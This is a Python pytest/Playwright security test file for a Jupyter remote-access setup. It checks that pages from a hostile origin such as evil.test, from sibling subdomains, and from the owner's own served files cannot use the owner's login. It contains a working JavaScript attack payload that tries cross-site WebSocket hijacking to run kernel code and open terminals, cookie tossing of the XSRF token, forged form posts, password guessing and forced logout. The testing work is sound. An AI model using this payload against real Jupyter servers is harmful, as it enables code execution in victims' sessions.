"""Pages of others in the owner's browser, while the owner is logged in. They get nothing."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest
from lab.box import Box
from playwright.sync_api import Page

from tests.browser import elsewhere
from tests.browser.browser import Browser, browsing
from tests.client import Client, wait_until
from tests.guide import Guide
from tests.installed import PASSWORD

MakeClient = Callable[..., Client]

#: Another site; and two that are the same site as box.test to a browser, so that SameSite does not keep them out.
OTHER, SIBLING, PORT = "evil.test", "sub.box.test", "box.test"

#: Runs in a page, which has got hold of names that it cannot know, and tries everything. What came of it.
ATTACK = """async ({ target, kernel, mark }) => {
    const gained = [];
    const loads = element => new Promise(resolve => {
        element.onload = () => resolve(true);
        element.onerror = () => resolve(false);
        document.body.append(element);
    });
    const make = (name, more) => Object.assign(document.createElement(name), more);

    // The token against forged requests: read where that can be done, else put there by a neighbour.
    // Of two the server believes the first, whose path is longer: ours.
    let token = document.cookie.split("; ").filter(cookie => cookie.startsWith("_xsrf="))[0]?.slice(6);
    if (!token) {
        token = "0123456789abcdef0123456789abcdef";
        document.cookie = `_xsrf=${token}; domain=box.test; path=/; secure`;
    }

    const websocket = (path, send) => new Promise(resolve => {
        const socket = new WebSocket(target.replace("https:", "wss:") + path);
        socket.onerror = () => resolve(false);
        socket.onopen = () => {
            if (!send)
                return resolve(true);
            socket.send(send);
            socket.onmessage = ({ data }) => data.includes("execute_reply") && resolve(true);
        };
    });
    const header = { msg_id: mark, msg_type: "execute_request", username: "", session: mark, version: "5.3" };
    const content = { code: `open("${mark}", "w")`, silent: false, allow_stdin: false };
    const run = { header, content, parent_header: {}, metadata: {}, buffers: [], channel: "shell" };
    if (await websocket(`/api/kernels/${kernel}/channels?session_id=${mark}`, JSON.stringify(run)))
        gained.push("kernel");
    if (await websocket("/terminals/websocket/1"))
        gained.push("terminal");
    if (await websocket("/api/events/subscribe"))
        gained.push("events");

    for (const credentials of ["include", "same-origin"])
        await fetch(`${target}/api/contents`, { credentials }).then(
            async answer => (await answer.text()).includes("writable") && gained.push("read"), () => null);
    if (await loads(make("script", { src: `${target}/files/mine.js` })))
        gained.push("script");
    if (await loads(make("img", { src: `${target}/files/mine.svg` })))
        gained.push("picture");

    for (const path of ["lab", "login", "api", "files/page.html"])
        await Promise.race([
            loads(make("iframe", { src: `${target}/${path}`, name: `frame ${path}` })),
            new Promise(resolve => setTimeout(resolve, 10000)),
        ]);

    // What only sends: whoever runs this looks at what has changed.
    const query = `?_xsrf=${encodeURIComponent(token)}`;
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
        const headers = { "Content-Type": type };
        for (const path of type === "text/plain" ? ["terminals", "contents", "kernels"] : ["terminals", "contents"])
            await fetch(`${target}/api/${path}${query}`,
                { method: "POST", mode: "no-cors", credentials: "include", headers, body: "{}" }).catch(() => null);
        for (const path of ["api/terminals", "api/contents", "login", "logout"]) {
            const frame = make("iframe", { name: `${type} ${path}` });
            await Promise.race([loads(frame), new Promise(resolve => setTimeout(resolve, 100))]);
            const form = make("form", { method: "post", enctype: type, action: target + "/" + path + query });
            form.target = frame.name;
            form.append(make("input", { name: "_xsrf", value: token }));
            form.append(make("input", { name: "password", value: `guess ${mark}` }));
            document.body.append(form);
            const loaded = new Promise(resolve => { frame.onload = resolve; setTimeout(resolve, 3000); });
            form.submit();
            await loaded;
        }
    }
    // The last thing: where it works, nobody is logged in any more.
    await loads(make("img", { src: `${target}/logout` }));
    return gained;
}"""


@pytest.fixture
def others() -> Iterator[elsewhere.Elsewhere]:
    with elsewhere.sites(OTHER, SIBLING, PORT) as served:
        yield served


@pytest.fixture
def window(box: Box, others: elsewhere.Elsewhere) -> Iterator[Browser]:
    """A Chromium that finds the other sites too, and believes who they are."""
    names = {OTHER: others.ip, SIBLING: others.ip, f"{PORT}:{others.port}": others.ip}
    with browsing(box, sites=names, authorities=[others.certificate]) as browser:
        yield browser


def gained(page: Page, origin: str, target: str, witness: Client) -> set[str]:
    """What a page of *origin* gets of the Jupyter at *target*, whose owner is logged in in this browser."""
    kernel = witness.start_kernel()
    mark = f"taken-{kernel.id}"
    before = _things(witness)
    # Where cookies of the target can be read, if anywhere; on our own origin a file that may do all this.
    page.goto(f"{origin}{target.removeprefix('https://box.test')}/static/favicon.ico", wait_until="load")
    got = set(page.evaluate(ATTACK, {"target": target, "kernel": kernel.id, "mark": mark}))
    after = _things(witness)
    got |= {f"posted {kind}" for kind in before if after[kind] - before[kind] - {mark}}
    if mark in after["contents"]:
        got.add("ran code")
    got |= {frame.name for frame in page.frames if frame.name.startswith("frame ") and frame.url.startswith(target)}
    with page.expect_popup() as opened:
        page.evaluate("target => { window.held = window.open(target + '/api') }", target)
    opened.value.wait_for_url(f"{target}/**")
    for _ in range(50):
        # The browser takes the window away from who has opened it.
        if page.evaluate("window.held.closed"):
            break
        page.wait_for_timeout(100)
    else:
        got.add("opener")
    opened.value.close()
    kernel.channels.close()
    return got


def _things(witness: Client) -> dict[str, set[str]]:
    return {
        "contents": {entry["name"] for entry in witness.api("GET", "contents")["content"]},
        "kernels": {entry["id"] for entry in witness.api("GET", "kernels")},
        "terminals": {entry["name"] for entry in witness.api("GET", "terminals")},
    }


def is_logged_in(page: Page, target: str) -> bool:
    page.goto(f"{target}/lab", wait_until="commit")
    return "/login" not in page.url


FILES = {
    "mine.js": "window.mine = 1",
    "mine.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>',
    "page.html": "<p>mine</p>",
}


@pytest.mark.one_release
def test_a_page_of_another_origin_gets_nothing(
    window: Browser, box: Box, client: MakeClient, others: elsewhere.Elsewhere
):
    for name, content in FILES.items():
        box.write(f"/home/alice/{name}", content, owner="alice")
    witness = client(box).login(PASSWORD)
    witness.open_terminal()
    window.login(PASSWORD)
    for name in (OTHER, SIBLING, PORT):
        origin = f"https://{name}:{others.port}"
        assert gained(window.page, origin, window.url, witness) == set(), name
        # Nor could it try passwords, nor log the owner out, also by a page of our own in a window of its own.
        assert "Login refused" not in box.journal("jupyter-remote.service")
        window.page.goto(f"{origin}/", wait_until="load")
        with window.page.expect_popup() as opened:
            window.page.evaluate("target => { window.open(target + '/logout') }", window.url)
        opened.value.wait_for_load_state("commit")
        opened.value.close()
        assert is_logged_in(window.page, window.url), name
    # The same from our own origin: it is the checks that make the difference.
    got = gained(window.page, "https://box.test", window.url, witness)
    assert {"kernel", "ran code", "terminal", "events", "read", "script", "picture", "frame lab", "opener"} <= got
    assert {"posted contents", "posted kernels", "posted terminals"} <= got


@pytest.mark.one_release
def test_the_guides_configuration_fails_the_same_test(window: Browser, box: Box, others: elsewhere.Elsewhere):
    for name, content in FILES.items():
        box.write(f"/home/alice/{name}", content, owner="alice")
    target = Guide.set_up(box).https_url
    with Client(box.ip, target, box.read("/var/lib/jupyter-remote/ca.crt")) as witness:
        witness.login(PASSWORD)
        window.page.goto(f"{target}/login")
        window.page.locator("input[name=password]").fill(PASSWORD)
        with window.page.expect_navigation():
            window.page.locator("#login_submit").click()
        got = gained(window.page, f"https://{SIBLING}:{others.port}", target, witness)
    assert {"kernel", "ran code", "script", "picture", "opener"} <= got, got
    assert {"posted contents", "posted terminals"} <= got, got


@pytest.mark.one_release
def test_a_file_of_the_owners_cannot_use_the_owners_login(browser: Browser, box: Box, client: MakeClient):
    script = """
        (async () => {
            const said = { origin: String(origin) };
            for (const how of ["cors", "no-cors", "same-origin"])
                said[how] = await fetch("/jupyter/api/contents", { mode: how, credentials: "include" }).then(
                    async answer => answer.type === "opaque" ? "opaque" : String(answer.status), () => "refused");
            said.websocket = await new Promise(resolve => {
                const socket = new WebSocket("wss://box.test/jupyter/api/events/subscribe");
                socket.onopen = () => resolve("open");
                socket.onerror = () => resolve("refused");
            });
            try { said.cookie = document.cookie } catch { said.cookie = "refused" }
            await fetch("/jupyter/api/terminals", { method: "POST", mode: "no-cors", body: "{}" }).catch(() => null);
            document.body.textContent = JSON.stringify(said);
        })();
    """
    box.write("/home/alice/page.html", f"<!doctype html><body><script>{script}</script>", owner="alice")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>'
    box.write("/home/alice/picture.svg", svg, owner="alice")
    browser.login(PASSWORD)
    browser.wait_for_lab()
    # As a click in JupyterLab opens it: with our page as the referrer.
    with browser.page.expect_popup() as opened:
        browser.page.evaluate("window.open('/jupyter/files/page.html')")
    page = opened.value
    wait_until(lambda: page.locator("body").inner_text().startswith("{"), "the page's script has not run")
    said = json.loads(page.locator("body").inner_text())
    assert said == {
        "origin": "null", "cors": "refused", "no-cors": "opaque", "same-origin": "refused",
        "websocket": "refused", "cookie": "refused",
    }  # fmt: skip
    assert client(box).login(PASSWORD).api("GET", "terminals") == []
